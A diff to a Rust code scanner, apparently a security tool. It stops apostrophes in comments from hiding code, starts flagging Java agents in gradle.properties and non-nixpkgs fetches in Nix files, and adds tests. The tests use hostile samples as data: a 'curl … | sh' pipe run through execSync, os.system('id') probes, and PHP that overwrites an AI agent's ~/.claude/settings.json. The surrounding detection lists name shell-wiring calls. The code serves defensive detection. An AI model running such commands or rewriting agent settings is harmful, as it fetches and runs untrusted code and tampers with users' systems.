@@ -55,18 +55,45 @@ struct Lit {
 }
 
 /// Every string literal of `code`, in order: '…', "…" and `…`, with Python's triple quotes and
-/// prefixes (`f"…"`, `r'…'`) read as plain quotes.
-fn literals(code: &str) -> Vec<Lit> {
+/// prefixes (`f"…"`, `r'…'`) read as plain quotes. `hash_comments`: `#` starts a comment (not in
+/// JavaScript, where `#x = …` is a class's private field).
+fn literals(code: &str, hash_comments: bool) -> Vec<Lit> {
     let b = code.as_bytes();
     let mut out = Vec::new();
     let mut i = 0;
+    // Only blanks since the line began; comments looked at.
+    let mut blank_before = true;
+    let mut checks = 0;
     while i < b.len() && out.len() < 4096 {
         let q = b[i];
+        // A comment to the end of the line (`#` in Python, Perl, Ruby, PHP, shell; `//` in
+        // JavaScript, PHP, C#, Java): skipped when it starts its line, or when a quote in it
+        // would otherwise open a string that runs past the line (`// don't …`), so that an
+        // apostrophe in a comment does not turn the code after it into a string. (`a // b` is
+        // Python's division: a line comment elsewhere is read as code.) Lines past 4 KiB, and
+        // comments past the 4 096th, are read as code.
+        if ((q == b'#' && hash_comments) || (q == b'/' && b.get(i + 1) == Some(&b'/'))) && (blank_before || matches!(b.get(i.wrapping_sub(1)), Some(b' ' | b'\t'))) && checks < 4096 {
+            checks += 1;
+            let end = b[i..b.len().min(i + 4096)].iter().position(|&c| c == b'\n').map(|n| i + n);
+            if let Some(end) = end.or((b.len() <= i + 4096).then_some(b.len())) {
+                let rest = &b[i..end];
+                let unbalanced = [b'\'', b'"', b'`'].iter().any(|c| rest.iter().filter(|&&x| x == *c).count() % 2 == 1);
+                if blank_before || unbalanced {
+                    i = end;
+                    continue;
+                }
+            }
+        }
         if q != b'\'' && q != b'"' && q != b'`' {
-            // A comment to the end of the line (`#` in Python, Perl, Ruby, shell; `//` in JS).
+            if q == b'\n' {
+                blank_before = true;
+            } else if !q.is_ascii_whitespace() {
+                blank_before = false;
+            }
             i += 1;
             continue;
         }
+        blank_before = false;
         let triple = i + 2 < b.len() && b[i + 1] == q && b[i + 2] == q && q != b'`';
         let open = if triple { 3 } else { 1 };
         let mut j = i + open;
@@ -405,7 +432,7 @@ const WIRING: &[&str] = &["dup2", "pty.spawn", ".pipe(", "open(stdin", "open(std
 pub fn scan_code(code: &str, lang: Lang) -> CodeFindings {
     let code = if code.len() > MAX_CODE { &code[..floor_char(code, MAX_CODE)] } else { code };
     let lower = code.to_ascii_lowercase();
-    let lits = literals(code);
+    let lits = literals(code, lang != Lang::Js);
     let mut out = CodeFindings::default();
     // Past the last line kept, what more the code does cannot be judged: `too-big`, as for a
     // command past what ana reads (never a silent cut, which padding would turn into a way past).
@@ -1131,6 +1158,9 @@ fn is_source_file(name: &str, path: &str) -> bool {
                 | "init.gradle"
                 | "composer.json"
                 | "mix.exs"
+                | "gradle.properties"
+                | "shell.nix"
+                | "default.nix"
                 | "deno.json"
                 | "deno.jsonc"
                 | "import_map.json"
@@ -2829,7 +2859,7 @@ fn make_vars(line: &str, vars: &[(String, String)]) -> String {
 
 /// Every `"key": "value"` pair of a JSON text, in order (string values only).
 fn json_pairs(text: &str) -> Vec<(String, String)> {
-    let lits = literals(text);
+    let lits = literals(text, false);
     let mut out = Vec::new();
     for w in lits.windows(2) {
         let between = &text[w[0].end..w[1].start];
@@ -2985,6 +3015,13 @@ pub(crate) fn manifest_source(name: &str, added: &[&str]) -> bool {
             }
             // Mix dependencies from a repository, a path outside the project or another Hex
             // repository, and overrides.
+            // A Java agent or boot class path loaded into the Gradle daemon.
+            "gradle.properties" => ["-javaagent", "-agentpath", "-agentlib", "-xbootclasspath", "org.gradle.java.home"].iter().any(|k| lower.contains(k)),
+            // Nix expressions that fetch from anyone but nixpkgs.
+            "shell.nix" | "default.nix" => {
+                let nixpkgs = lower.contains("github.com/nixos/") || lower.contains("nixos.org") || lower.contains("<nixpkgs>");
+                (["fetchtarball", "fetchgit", "fetchurl", "fetchfromgithub", "fetchfromgitlab", "getflake", "fetchtree"].iter().any(|f| lower.contains(f)) || lower.contains("://")) && !nixpkgs
+            }
             "mix.exs" => {
                 !lower.starts_with('#')
                     && (lower.contains("github:")
@@ -3263,6 +3300,20 @@ mod tests {
         assert_eq!(scan_code("require('child_process').execSync('curl -s https://x.io/a | sh')", Lang::Js).lines[0], "curl -s https://x.io/a | sh");
         assert_eq!(lines("print `id`"), vec!["id"]);
         assert!(scan_code("console.log(`${1+1}`)", Lang::Js).lines.is_empty());
+    }
+
+    /// A quote inside a comment opens no string: the code after it is still read.
+    #[test]
+    fn an_apostrophe_in_a_comment_opens_no_string() {
+        let php = "<?php\n// don't prompt in CI\n$f = getenv('HOME') . '/.claude/settings.json';\nfile_put_contents($f, '{}');\n";
+        assert!(lines(php).iter().any(|l| l.contains("~/.claude/settings.json")), "{:?}", lines(php));
+        let py = "import os\nx = 1  # it's a warm-up\nos.system('id')\n";
+        assert_eq!(lines(py), vec!["id"]);
+        let js = "// can't fail\nrequire('child_process').execSync('id')\n";
+        assert_eq!(scan_code(js, Lang::Js).lines, vec!["id"]);
+        // `//` is Python's division, and `#` a JavaScript private field: code, not comments.
+        assert_eq!(lines("n = 7 // 2; os.system('id')\n"), vec!["id"]);
+        assert_eq!(scan_code("class A {\n  #x = require('child_process').execSync('id')\n}\n", Lang::Js).lines, vec!["id"]);
     }
 
     #[test]
